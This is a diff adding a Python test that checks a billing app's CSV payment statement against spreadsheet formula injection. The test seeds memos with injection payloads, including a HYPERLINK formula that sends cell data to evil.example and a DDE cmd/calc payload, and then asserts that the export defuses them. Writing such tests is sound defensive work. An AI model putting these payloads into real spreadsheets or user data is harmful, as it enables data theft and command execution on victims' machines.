@@ -4,6 +4,8 @@ Server header, the favicon."""
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import re
 import urllib.error
@@ -352,3 +354,51 @@ def test_rating_refuses_them_too(cabinet_ctx, amount):
         with pytest.raises(DomainError, match="an amount like 100 or 99.50"):
             promised.grant(session, account, Decimal(amount), api_tokens.utcnow(),
                            promised.PromisedRules(), actor="test")
+
+
+# -- the statement's CSV: no formula in any spreadsheet's reading ----------------
+
+EVIL_MEMOS = [
+    'Оплата;=HYPERLINK("http://evil.example/?"&A1;"Подробнее")',
+    "refund, +cmd|' /C calc'!A0",
+    "bonus;@SUM(1+1)",
+    'note; "-2+3',
+    "line one\n=1+1",
+    "=1+1",
+    "a,\t=1",
+    "card ;\uff1dSUM(1)",
+]
+TRIGGERS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+
+
+def _cells_as_excel_might_see_them(text: str):
+    """Every piece a spreadsheet could take for a cell: the file split at
+    ; , and line breaks, with no regard for quotes (that is how Russian
+    Excel reads a comma-separated file), spaces and quotes stripped."""
+    for piece in re.split(r"[;,\r\n]", text):
+        yield piece.lstrip(' "\'') if not piece.lstrip(' "').startswith("'") else "'"
+
+
+def test_the_csv_statement_has_no_formula(client, cabinet_ctx):
+    from rating import ledger
+    subscriber = seed_subscriber(cabinet_ctx)
+    logged_in = client
+    log_in(client, subscriber.login, subscriber.password, lang="en")
+    with cabinet_ctx.Session() as session:
+        for n, memo in enumerate(EVIL_MEMOS):
+            ledger.post(session, account_id=subscriber.account_id, amount="-1.50", kind="fee",
+                        key=f"fee:evil:{n}", author="test", memo=memo)
+        session.commit()
+    response = logged_in.get("/payments.csv")
+    assert response.status_code == 200
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    for cell in _cells_as_excel_might_see_them(text):
+        if cell.startswith(TRIGGERS):
+            # Only our own amounts start with a minus: numbers, no formula.
+            assert re.fullmatch(r'-[0-9]+\.[0-9]{2}"?', cell), repr(cell)
+    # A comma-separated reader gets every memo back whole, defused only.
+    rows = list(csv.reader(io.StringIO(text)))
+    memos = [row[4] for row in rows[2:-1] if row[2] == "-1.50"]
+    assert len(memos) == len(EVIL_MEMOS)
+    for memo, original in zip(memos, EVIL_MEMOS):
+        assert memo.replace("'", "") == original.replace("'", "")
